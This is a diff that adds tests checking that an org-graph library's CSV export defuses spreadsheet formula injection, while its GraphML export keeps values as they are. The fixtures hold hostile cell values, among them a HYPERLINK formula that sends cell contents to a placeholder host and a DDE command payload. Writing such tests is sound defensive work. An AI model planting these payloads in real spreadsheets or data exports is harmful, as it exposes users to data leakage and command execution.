@@ -10,6 +10,8 @@ import networkx as nx
 import numpy as np
 import pandas as pd
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from orgbridge.errors import IngestError
 from orgbridge.graph import OrgGraph
@@ -315,3 +317,92 @@ def test_a_gephi_style_gexf_file(tmp_path: Path) -> None:
         ["1", "2", "collaboration", 1.0],
     ]
     assert report.rows_in == 5 and report.problems == []  # type: ignore[attr-defined]
+
+
+PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def hostile_org() -> OrgGraph:
+    """Names, attributes, ids, a layer and column names starting with every formula prefix."""
+    ids = [f"{p}id{i}" for i, p in enumerate(PREFIXES)]
+    people = pd.DataFrame(
+        {
+            "person_id": ids,
+            "name": ['=HYPERLINK("http://x?x="&A1,"Click me")', "+1", "-2+3", "@SUM(A1)",
+                     "\tTab", "\rCR"],
+            "department": ["=1+1", "Ops", "-x", "@y", "Eng", "+z"],
+            "manager_id": [None, ids[0], ids[0], ids[1], ids[1], ids[2]],
+            "level": pd.array([-3, 1, 2, 3, 4, 5], dtype="Int64"),
+            "=evil": ["=cmd|' /C calc'!A0", "ok", None, "-1", "+2", "@3"],
+            "-col": ["a", "b", "c", "d", "e", "f"],
+        }
+    )  # fmt: skip
+    ties = pd.DataFrame(
+        {"source": ids[:3], "target": ids[3:], "layer": ["=layer", "mentoring", "@guild"]}
+    )
+    return OrgGraph.from_frames(people, ties)
+
+
+def read_cells(path: Path) -> list[list[str]]:
+    import csv
+
+    with path.open(newline="", encoding="utf-8") as handle:
+        return list(csv.reader(handle))
+
+
+def is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_csv_export_cells_cannot_start_a_formula(tmp_path: Path) -> None:
+    graph = hostile_org()
+    written = write_csv(graph, tmp_path)
+    for path in written:
+        rows = read_cells(path)
+        assert len(rows) > 1
+        for row in rows:
+            for cell in row:
+                # Numbers stay numbers (a spreadsheet reads -3 as minus three, not a formula).
+                assert is_number(cell) or not cell.startswith(tuple(PREFIXES)), (path.name, cell)
+    people = pd.read_csv(written[0], dtype=str, keep_default_na=False)
+    assert list(people.columns[:2]) == ["person_id", "name"]
+    assert "'=evil" in people.columns and "'-col" in people.columns
+    assert people["name"].tolist() == [
+        '\'=HYPERLINK("http://x?x="&A1,"Click me")', "'+1", "'-2+3", "'@SUM(A1)", "'\tTab", "'\rCR"
+    ]  # fmt: skip
+    assert people["department"].tolist() == ["'=1+1", "Ops", "'-x", "'@y", "Eng", "'+z"]
+    assert people["level"].tolist() == ["-3", "1", "2", "3", "4", "5"]
+    ties = pd.read_csv(written[1], dtype=str, keep_default_na=False)
+    assert sorted(ties["layer"]) == ["'=layer", "'@guild", "mentoring"]
+    assert set(ties["source"]) | set(ties["target"]) == set(people["person_id"][:6])
+    assert set(people["manager_id"]) - {""} <= set(people["person_id"])
+
+
+def test_graph_files_keep_values_as_they_are(tmp_path: Path) -> None:
+    graph = hostile_org()
+    write_graphml(graph, tmp_path / "org.graphml")
+    names = nx.get_node_attributes(nx.read_graphml(tmp_path / "org.graphml"), "name")
+    assert names["=id0"] == '=HYPERLINK("http://x?x="&A1,"Click me")'
+
+
+@settings(max_examples=40, deadline=None)
+@given(st.lists(st.text(min_size=1, max_size=8), min_size=1, max_size=6, unique=True))
+def test_every_exported_text_cell_is_the_value_or_the_value_behind_an_apostrophe(
+    names: list[str],
+) -> None:
+    import tempfile
+
+    people = pd.DataFrame({"person_id": [f"p{i}" for i in range(len(names))], "name": names})
+    with tempfile.TemporaryDirectory() as folder:
+        path = write_csv(OrgGraph(people), folder)[0]
+        rows = read_cells(path)
+    exported = [row[1] for row in rows[1:]]
+    for value, cell in zip(names, exported, strict=True):
+        if value.startswith(tuple(PREFIXES)):
+            assert cell == "'" + value
+        else:
+            assert cell == value
